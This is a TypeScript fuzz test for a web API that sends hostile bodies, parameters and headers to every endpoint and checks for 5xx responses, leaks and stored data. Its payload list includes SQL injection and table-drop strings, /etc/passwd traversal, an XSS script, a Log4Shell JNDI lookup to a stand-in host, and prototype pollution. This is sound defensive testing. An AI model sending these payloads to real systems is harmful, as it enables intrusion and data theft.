/**
 * Fuzz: random and hostile bodies, path params, query strings and headers against every mounted endpoint.
 * No 5xx, no stack trace or internal detail in any answer, every failure is `{ httpCode, code, message }`, and a
 * refused call stores nothing.
 */

import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mountedEndpoints } from '../../server/app.ts';
import type { Endpoint } from '../../src/api/contract/endpoint.ts';
import { startTestApi, type TestApi } from './helpers.ts';

let api: TestApi;
let tokens: string[];
beforeAll(async () => {
  api = await startTestApi();
  tokens = [
    await api.tokenFor('client'),
    await api.tokenFor('client-ephemeral'),
    await api.tokenFor('business'),
    await api.tokenFor('expired'),
  ];
});
afterAll(async () => {
  await api?.close();
});

const HOSTILE = [
  "' OR '1'='1' --",
  "'; DROP TABLE clients; --",
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, literally
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '\u0000',
  '%00',
  '\uD800',
  '🙂🙃',
  'ÁÉÍÓÚÑ',
  'a'.repeat(5000),
  '-1',
  '1e309',
  'NaN',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  ' ',
  '',
];

const hostileString = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(hostileString, { maxLength: 3 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
);

function keysOf(e: Endpoint): string[] {
  const shape = (e.body as unknown as { _zod?: { def?: { shape?: Record<string, unknown> } } } | undefined)
    ?._zod?.def?.shape;
  return shape ? Object.keys(shape) : [];
}

/** Bodies: anything, raw junk text, or the endpoint's own keys with hostile values. */
const bodyFor = (e: Endpoint) =>
  fc.oneof(
    fc.record({ kind: fc.constant('json' as const), value: fc.anything({ maxDepth: 3 }) }),
    fc.record({
      kind: fc.constant('raw' as const),
      value: fc.oneof(
        fc.string({ maxLength: 200 }),
        fc.constantFrom(
          '{',
          '[[[[',
          '{"__proto__":{"admin":true}}',
          `${'['.repeat(5000)}${']'.repeat(5000)}`,
          'null',
          '"x"',
        ),
      ),
    }),
    fc.record({
      kind: fc.constant('json' as const),
      value: fc.record(
        Object.fromEntries(keysOf(e).map((k) => [k, hostileValue])) as Record<string, fc.Arbitrary<unknown>>,
      ),
    }),
  );

const headerArb = fc.record({
  authorization: fc.option(
    fc.oneof(
      fc.constantFrom(...['Bearer ', 'Bearer x.y.z', 'Basic YWRtaW46YWRtaW4=', `Bearer ${'a'.repeat(3000)}`]),
      fc.integer({ min: 0, max: 3 }).map((i) => `Bearer ${tokens[i]}`),
      hostileString.map((s) => `Bearer ${s.replace(/[\r\n]/g, '')}`),
    ),
    { nil: undefined },
  ),
  contentType: fc.option(
    fc.constantFrom(
      'application/json',
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/json; charset=latin1',
    ),
    { nil: undefined },
  ),
  requestId: fc.option(hostileString, { nil: undefined }),
});

const COUNTED = [
  'clients',
  'credentials',
  'client_settings',
  'addresses',
  'one_time_codes',
  'outbox',
  'push_subscriptions',
  'referrals',
];
async function rowCounts(): Promise<string> {
  const res = await api.db.execute(
    sql.raw(`select ${COUNTED.map((t) => `(select count(*) from ${t})::int as ${t}`).join(', ')}`),
  );
  return JSON.stringify((res as unknown as { rows: unknown[] }).rows[0]);
}

const safeHeaderValue = (s: string) => s.replace(/[^\x20-\x7e]/g, '');

function checkAnswer(e: Endpoint, status: number, text: string): string | null {
  if (status >= 500) return `${e.id}: ${status}`;
  if (/\n\s+at |node_modules|\.ts:\d+|Error:|DrizzleQueryError|syntax error at/i.test(text))
    return `${e.id}: leaks ${text.slice(0, 120)}`;
  if (status >= 400) {
    let body: { httpCode?: unknown; code?: unknown; message?: unknown };
    try {
      body = JSON.parse(text);
    } catch {
      return `${e.id}: non-JSON error ${status}`;
    }
    if (body.httpCode !== status || typeof body.code !== 'string' || typeof body.message !== 'string') {
      return `${e.id}: bad error body ${text.slice(0, 120)}`;
    }
  }
  return null;
}

describe('fuzz', () => {
  it('every endpoint survives random and hostile input without 5xx, leaks or stored data', async () => {
    const endpoints = mountedEndpoints(api.app);
    expect(endpoints.length).toBeGreaterThan(20);
    const problems: string[] = [];
    for (const e of endpoints) {
      const paramNames = [...e.path.matchAll(/:([A-Za-z0-9_]+)/g)].map((m) => m[1]!);
      await fc.assert(
        fc.asyncProperty(
          fc.array(hostileString, { minLength: paramNames.length, maxLength: paramNames.length }),
          fc.dictionary(
            fc.constantFrom('name', 'limit', 'phoneNumber', 'curp', 'email', 'to', 'x'),
            hostileString,
            { maxKeys: 3 },
          ),
          bodyFor(e),
          headerArb,
          async (params, query, body, headers) => {
            let i = 0;
            const path = e.path.replace(
              /:([A-Za-z0-9_]+)/g,
              () => encodeURIComponent(params[i++] ?? '') || 'x',
            );
            const qs = new URLSearchParams(query).toString();
            const before = await rowCounts();
            const h: Record<string, string> = {};
            if (headers.authorization) h.authorization = safeHeaderValue(headers.authorization);
            if (headers.contentType) h['content-type'] = headers.contentType;
            if (headers.requestId !== undefined) h['x-request-id'] = safeHeaderValue(headers.requestId);
            const res = await api.request(e.method, `/api${path}${qs ? `?${qs}` : ''}`, {
              headers: h,
              ...(e.method === 'GET'
                ? {}
                : { rawBody: body.kind === 'raw' ? body.value : JSON.stringify(body.value) }),
            });
            const problem = checkAnswer(e, res.status, res.text);
            if (problem) problems.push(problem);
            if (res.status >= 400 && (await rowCounts()) !== before)
              problems.push(`${e.id}: stored data on ${res.status}`);
          },
        ),
        { numRuns: 25, seed: 20260521 + paramNames.length },
      );
    }
    expect([...new Set(problems)]).toEqual([]);
  });

  it('oversized bodies are refused with 413', async () => {
    const res = await api.request('POST', '/api/clients/signin', {
      rawBody: JSON.stringify({ email: 'a@b.mx', password: 'x'.repeat(100_000) }),
      headers: { 'content-type': 'application/json' },
    });
    expect(res.status).toBe(413);
    expect(res.body).toMatchObject({ httpCode: 413, code: 'PAYLOAD_TOO_LARGE' });
  });
});
